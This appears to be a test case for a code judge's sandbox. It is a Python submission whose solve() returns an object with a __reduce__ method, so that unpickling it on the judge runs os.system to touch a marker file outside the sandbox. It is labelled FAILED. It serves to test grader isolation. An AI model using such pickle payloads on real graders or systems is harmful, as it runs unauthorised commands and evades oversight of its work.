# what: pickling the result would run a command on the judge's side
# verdict: FAILED
# marker: outside
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/reduced",)


def solve(n, items):
    return Bomb()
